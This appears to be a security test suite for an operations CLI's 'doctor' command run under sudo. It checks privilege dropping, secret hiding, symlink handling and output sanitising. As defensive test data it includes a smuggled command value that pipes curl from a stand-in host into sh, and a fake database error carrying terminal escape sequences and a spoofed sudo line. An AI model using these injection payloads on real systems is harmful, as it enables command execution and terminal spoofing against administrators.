/** `sudo opsctl doctor` on a machine whose account `opsctl` tries to become root. */
import { afterAll, beforeAll, describe, expect } from "bun:test";
import { copyFileSync, existsSync, readFileSync, rmSync, symlinkSync } from "node:fs";
import type { Finding } from "../../../lib/doctor/context.ts";
import { startGateway } from "../../standins/gateway.ts";
import { startRawPeer } from "../../standins/raw-peer.ts";
import { ACCOUNT, type AccountHost, openAccountHost } from "../../support/account-host.ts";
import { requires } from "../../support/requires.ts";
import { until } from "../../support/until.ts";
import { type Ended, startProgram } from "../support/opsctl.ts";

const { test } = requires("account");

let host: AccountHost;
beforeAll(() => {
  host = openAccountHost();
});
afterAll(() => host[Symbol.dispose]());

/** A folder of environment files, each of the account that reads it. */
function settings(name: string, files: Record<string, Record<string, string>>): string {
  host.make(name);
  for (const [command, variables] of Object.entries(files)) {
    const text = Object.entries(variables).map(([key, value]) => `${key}='${value}'\n`);
    host.put(`${name}/${command}.env`, text.join(""), 0o600, command === "collect-metrics" ? 0 : ACCOUNT.uid);
  }
  return host.path(name);
}

async function doctor(args: string[], env: Record<string, string> = {}, before?: string): Promise<Ended> {
  const words = host.inside(await host.opsctl("binary", ["doctor", ...args]), before);
  return await startProgram(words, { cwd: "/", env: { PATH: "/usr/bin:/bin", HOME: host.folder, ...env } })
    .ended;
}

const of = ({ json }: Ended, command: string, check: string) =>
  (json.findings as Finding[]).filter((one) => one.command === command && one.check === check);

describe("opsctl doctor started by root", () => {
  test("runs a secret command that the account chose as the account, without a secret of root's", async () => {
    const out = `${host.make("ran", 0o1777)}/as`;
    const vault = host.put("vault.sh", `#!/bin/sh\n{ id -u; env; } >> ${out}\n`, 0o755, ACCOUNT.uid);
    const chosen = { OPSCTL_SECRETS_COMMAND: vault, OPSCTL_SECRETS_DIR: host.path("none") };
    const envDir = settings("chosen", {
      weekly: { ...chosen, GATEWAY_URL: "http://127.0.0.1:1" },
      webhook: { ...chosen, MESSAGING_API_URL: "http://127.0.0.1:1" },
    });
    const ended = await doctor(["--json", "--env-dir", envDir], { HOSTING_TOKEN: "roots-own-token" });
    expect(ended.exitCode).toBe(3);
    const said = readFileSync(out, "utf8");
    expect(new Set(said.match(/^\d+$/gm))).toEqual(new Set([String(ACCOUNT.uid)]));
    expect(said).not.toContain("roots-own-token");
  });

  test("neither sends nor shows a file of root's that a secret links to", async () => {
    const gateway = await startGateway({ adminKey: "the-key", instances: {}, tokens: {} });
    const secrets = host.make("linked", 0o700, ACCOUNT.uid);
    symlinkSync(host.put("roots-own", "line-of-a-file-of-roots"), `${secrets}/GATEWAY_ADMIN_KEY`);
    const envDir = settings("linking", { weekly: { GATEWAY_URL: gateway.url, OPSCTL_SECRETS_DIR: secrets } });
    const ended = await doctor(["weekly", "--json", "--env-dir", envDir]);
    expect(gateway.ledger).toEqual([]);
    expect(ended.stdout).not.toContain("line-of-a-file-of-roots");
    const about = of(ended, "weekly", "secrets").filter(({ reason }) => reason.includes("GATEWAY_ADMIN_KEY"));
    expect(about).toMatchObject([{ status: "fail" }]);
    for (const { fix } of ended.json.findings as Finding[])
      expect(fix?.command ?? "").not.toContain("GATEWAY_ADMIN_KEY");
    await gateway.stop();
  });

  test("puts nothing that the account wrote into a command", async () => {
    const line = "; curl http://canary.example/x | sh";
    const victim = host.put("given", "of root\n");
    const messaging = { MESSAGING_API_URL: "http://127.0.0.1:9", MESSAGING_API_KEY: "messaging-key" };
    const tracker = { ISSUE_TRACKER_URL: "http://127.0.0.1:9/graphql", ISSUE_TRACKER_TOKEN: "tracker-token" };
    const none = { OPSCTL_SECRETS_DIR: host.path("none") };
    const envDir = settings("worded", {
      webhook: {
        ...{ ...none, ...messaging, ...tracker, WEBHOOK_SECRET: "a-secret-of-the-webhook-0123456789" },
        ...{ MESSAGING_PHONE: "5511999999999", ISSUE_TRACKER_TEAM_ID: crypto.randomUUID() },
        OPSCTL_STATE_DIR: `/var/lib/opsctl/x${line}`,
      },
      "socket-monitor": { ...none, OPSCTL_WEBHOOK_ENV_FILE: victim },
    });
    const ended = await doctor(["--json", "--env-dir", envDir]);
    const commands = (ended.json.findings as Finding[]).flatMap(({ fix }) => fix?.command ?? []);
    expect(commands.length).toBeGreaterThan(0);
    expect(commands.filter((command) => /canary|\| sh|given|not-there/.test(command))).toEqual([]);
    const text = (await doctor(["--all", "--env-dir", envDir])).stdout;
    // Values stand in reasons alone: no line that could be copied holds one.
    expect(text.split("\n").filter((line) => /->|^ {8,}\S/.test(line) && line.includes("| sh"))).toEqual([]);
  });

  test("looks at the collector's settings as root, and at its file as the account, following no link", async () => {
    const metrics = 'opsctl_collector_up{source="canary"} 0\n';
    const owned = host.make("textfile", 0o755, ACCOUNT.uid);
    rmSync(`${owned}/custom_metrics.prom`, { force: true });
    symlinkSync(host.put("metrics-of-root", metrics, 0o644), `${owned}/custom_metrics.prom`);
    const envDir = settings("collecting", { "collect-metrics": { TEXTFILE_DIR: owned } });
    const ended = await doctor(["collect-metrics", "--json", "--env-dir", envDir]);
    expect(of(ended, "collect-metrics", "environment file")).toMatchObject([{ status: "pass" }]);
    expect(ended.stdout).not.toContain("canary");
    const codes = of(ended, "collect-metrics", "status").map(({ code }) => code);
    expect(codes).toEqual(["FILE_UNREADABLE"]);
  });

  test("says what is wrong with the metrics' directory and file, and changes nothing by a command", async () => {
    const owned = host.make("their-metrics", 0o755, ACCOUNT.uid);
    host.put("their-metrics/custom_metrics.prom", "", 0o600, ACCOUNT.uid);
    for (const [directory, check] of [
      [owned, "metrics file"],
      [`${owned}/missing`, "text-file directory"],
    ] as const) {
      const envDir = settings("leading", { "collect-metrics": { TEXTFILE_DIR: directory } });
      const ended = await doctor(["collect-metrics", "--json", "--env-dir", envDir]);
      const [found] = of(ended, "collect-metrics", check);
      // Pasted, `chmod 0644` would follow a link to /etc/shadow.
      expect([found!.status, /chmod|install|mv /.test(found!.fix?.command ?? "")]).toEqual(["fail", false]);
    }
  });

  const ACCESS: [string, string, "pass" | "fail"][] = [
    ["by its owner's bits", "chown 64001:0 $D; chmod 0700 $D", "pass"],
    ["by its group's bits", "chown 0:64001 $D; chmod 0730 $D", "pass"],
    ["by others' bits", "chown 0:0 $D; chmod 0757 $D", "pass"],
    ["to nobody else", "chown 0:0 $D; chmod 0755 $D", "fail"],
    ["not to its group", "chown 0:64001 $D; chmod 0707 $D", "fail"],
    ["by an access list alone", "chown 0:0 $D; chmod 0700 $D; setfacl -m u:64001:rwx $D", "pass"],
    ["not to one whom an access list masks", "chown 64002:0 $D; setfacl -m u:64001:rwx,m::r $D", "fail"],
  ];
  for (const [what, open, status] of ACCESS)
    (what.includes("list") ? requires("account", "setfacl").test : test)(
      `finds a directory that is open ${what} ${status === "pass" ? "well" : "closed"}, as the kernel does`,
      async () => {
        const name = `access-${what.replaceAll(/\W/g, "-")}`;
        const log = host.make(name);
        const made = Bun.spawnSync(["sh", "-ec", open], { env: { ...process.env, D: log } });
        expect(made.exitCode, made.stderr?.toString()).toBe(0);
        const weekly = {
          ...{
            OPSCTL_LOG_DIR: log,
            OPSCTL_SECRETS_DIR: host.path("none"),
            APP_BASE_URL: "http://127.0.0.1:1",
          },
          ...{ DATABASE_URL: "postgres://u:p@127.0.0.1:1/a", TRIGGER_SECRET: "trigger-secret" },
        };
        const envDir = settings(`${name}-etc`, { weekly });
        const ended = await doctor(["weekly", "--json", "--env-dir", envDir]);
        const [found] = of(ended, "weekly", "log directory");
        expect(found, JSON.stringify(found)).toMatchObject({ status });
        if (status === "fail") expect(found!.code).toBe("DIRECTORY_CLOSED");
      },
    );

  test.each<[string, string, number, number, number]>([
    ["are not root's", "SECRET_FILE_UNTRUSTED", 0o600, ACCOUNT.uid, 0],
    ["are open to a group for writing", "SECRET_FILE_EXPOSED", 0o660, 0, 0],
    ["lie in a directory of the account's", "SECRET_FILE_UNTRUSTED", 0o600, 0, ACCOUNT.uid],
  ])("does not use the collector's settings that %s", async (what, code, mode, owner, ownerOfDirectory) => {
    const name = what.replaceAll(/\W/g, "-");
    const out = `${host.make(`${name}-ran`, 0o1777)}/as`;
    const vault = host.put(`${name}.sh`, `#!/bin/sh\nid -u >> ${out}\n`, 0o755);
    const envDir = host.make(name, 0o755, ownerOfDirectory);
    host.put(`${name}/collect-metrics.env`, `OPSCTL_SECRETS_COMMAND=${vault}\n`, mode, owner);
    const ended = await doctor(["collect-metrics", "--json", "--env-dir", envDir]);
    const [found] = of(ended, "collect-metrics", "environment file");
    expect(found).toMatchObject({ status: "fail", code });
    // Given to root, its lines would be root's.
    expect(found!.fix?.command ?? "").not.toMatch(/chown|chmod/);
    expect(() => readFileSync(out, "utf8")).toThrow("ENOENT");
  });

  test("says of a log directory on a file system that is mounted read-only how to find it", async () => {
    const envDir = settings("read-only", { weekly: { OPSCTL_LOG_DIR: host.make("read-only-log") } });
    const mount = 'mount -t tmpfs -o ro,mode=0777 none "$0/read-only-log"';
    const ended = await doctor(["weekly", "--json", "--env-dir", envDir], {}, mount);
    const [found] = of(ended, "weekly", "log directory");
    expect(found).toMatchObject({ code: "DIRECTORY_CLOSED", fix: { command: "findmnt -T <directory>" } });
  });

  /** What root does to a host whose `/etc` is its own, and the one fix that doctor has for it. */
  const ON_ETC: [what: string, before: string, code: string, fix: string][] = [
    [
      "a settings file of root's",
      "chown 0:0 /etc/opsctl/weekly.env",
      "SECRET_FILE_UNREADABLE",
      "Give it to the account opsctl, mode 0600",
    ],
    [
      "a directory of settings that a group may write to",
      "chmod 0775 /etc/opsctl",
      "SECRET_FILE_UNTRUSTED",
      "chown root:root /etc/opsctl && chmod 0755 /etc/opsctl",
    ],
    [
      "a directory of secrets that is closed to the account",
      "install -d -m 0700 /etc/opsctl/secrets",
      "SECRET_FILE_UNREADABLE",
      "install -d -o root -g opsctl -m 0750 /etc/opsctl/secrets",
    ],
  ];
  test.each(ON_ETC)("says of %s once what puts it right", async (what, before, code, fix) => {
    const name = what.replaceAll(/\W/g, "-");
    host.make(`${name}/opsctl`);
    for (const file of ["passwd", "group"]) copyFileSync(host.path(file), host.path(name, file));
    settings(`${name}/opsctl`, { weekly: { GATEWAY_URL: "http://127.0.0.1:1" } });
    const there = `mount --bind "$0/${name}" /etc\n${before}`;
    const { stdout } = await doctor(["--all"], {}, there);
    expect(stdout.match(/^ {2}FAIL .*: Cannot .*$/gm)).toEqual([expect.stringContaining(`(${code})`)]);
    expect(stdout).toContain(`\n        -> ${fix}\n`);
    expect(stdout).not.toContain("Put sudo");
  });

  test("reads what the account has set as the account, and asks systemd as the account", async () => {
    const envDir = settings("units", {
      webhook: {
        WEBHOOK_PORT: "9477",
        WEBHOOK_ADMIN_PORT: "0",
        MESSAGING_PHONE: "5511987654321",
        OPSCTL_SECRETS_DIR: host.path("none"),
      },
    });
    const bin = host.make("bin-of-systemctl");
    const unit = (name: string) => `printf 'Id=opsctl-webhook.${name}\\nActiveState=active\\n\\n'\n`;
    const asked = `[ "$(id -u)" = ${ACCOUNT.uid} ] || exit 1\n`;
    const script = `#!/bin/sh\n${asked}${unit("socket")}${unit("service")}`;
    host.put("bin-of-systemctl/systemctl", script, 0o755);
    const ended = await doctor(["webhook", "--json", "--env-dir", envDir], { PATH: `${bin}:/usr/bin:/bin` });
    expect(of(ended, "webhook", "unit").length).toBeGreaterThan(4);
    expect(of(ended, "webhook", "environment file")).toMatchObject([{ status: "pass" }]);
    expect(of(ended, "webhook", "status")).toMatchObject([{ code: "WEBHOOK_NOT_ANSWERING" }]);
  });

  test("ends a secret command of root's that hangs, and names it", async () => {
    const ran = `${host.make("hung")}/pid`;
    const vault = host.put("hung.sh", `#!/bin/sh\necho $$ >${ran}\nexec sleep 3600\n`, 0o755);
    const chosen = { OPSCTL_SECRETS_COMMAND: vault, OPSCTL_SECRETS_DIR: host.path("none") };
    const envDir = settings("hanging", { "collect-metrics": chosen });
    const ended = await doctor(["collect-metrics", "--json", "--env-dir", envDir]);
    expect(of(ended, "collect-metrics", "secrets")).toMatchObject([{ code: "SECRET_COMMAND_FAILED" }]);
    const pid = readFileSync(ran, "utf8").trim();
    await until("the command to end", () => !existsSync(`/proc/${pid}`));
  });

  test("sends nothing to root's terminal that a database of the account's answers but words", async () => {
    const fields = [
      "SFATAL",
      "VFATAL",
      "C28P01",
      "Mcanary\u001b]0;title\u0007\u001b[2J\u009bm\u202e\n -> sudo x",
    ];
    const body = Buffer.from(`${fields.join("\0")}\0\0`);
    const size = Buffer.alloc(4);
    size.writeUInt32BE(body.length + 4);
    const database = await startRawPeer((socket) => {
      socket.once("data", () => socket.end(Buffer.concat([Buffer.from("E"), size, body])));
    });
    const url = `postgres://u:p@127.0.0.1:${database.port}/app?sslmode=disable`;
    const envDir = settings("escapes", {
      weekly: { DATABASE_URL: url, OPSCTL_SECRETS_DIR: host.path("none") },
    });
    for (const words of [["weekly"], ["--all"], []]) {
      const { stdout } = await doctor([...words, "--env-dir", envDir]);
      if (words.length > 0) expect(stdout).toContain("canary");
      expect(stdout).not.toMatch(/[^\P{Cc}\n]|\u202e|^ -> sudo x/mu);
    }
    await database.stop();
  });

  test("asks the hosting provider with the token that root has, without showing it", async () => {
    const envDir = settings("hosting", { "collect-metrics": { HOSTING_API_URL: "http://127.0.0.1:1" } });
    const words = ["collect-metrics", "--json", "--env-dir", envDir];
    const ended = await doctor(words, { HOSTING_TOKEN: "roots-own-token" });
    expect(of(ended, "collect-metrics", "hosting provider")).toMatchObject([
      { status: "fail", code: "hosting_unreachable" },
    ]);
    expect(ended.stdout).not.toContain("roots-own-token");
  });

  test("checks the owner's login that root has, without showing it", async () => {
    const envDir = settings("owner", { weekly: { OPSCTL_SECRETS_DIR: host.path("none") } });
    const url = "postgres://owner:secret-of-the-owner@127.0.0.1:1/app?sslmode=disable";
    const words = ["migrate", "--json", "--env-dir", envDir];
    const ended = await doctor(words, { MIGRATE_DATABASE_URL: url });
    expect(of(ended, "migrate", "configuration")).toMatchObject([{ status: "pass" }]);
    expect(of(ended, "migrate", "database")).toMatchObject([
      { status: "fail", code: "DATABASE_UNREACHABLE" },
    ]);
    expect(ended.stdout).not.toContain("secret-of-the-owner");
  });

  test("an account that root cannot become fails each of its commands with the reason, and root's commands are checked", async () => {
    const envDir = settings("nothing", { weekly: {}, webhook: {} });
    const words = ["--json", "--env-dir", envDir];
    const ended = await doctor(words, {}, 'set -- setpriv --bounding-set=-setuid "$@"');
    const findings = ended.json.findings as Finding[];
    const about = findings.filter(({ code }) => code === "ACCOUNT_UNAVAILABLE");
    expect(ended.exitCode).toBe(3);
    expect(about.map(({ command }) => command)).toEqual([
      ...["weekly", "webhook", "socket-monitor", "alert-rules", "migrate", "reports", "deliveries"],
    ] as Finding["command"][]);
    expect(findings.some(({ command }) => command === "collect-metrics")).toBe(true);
  });
});
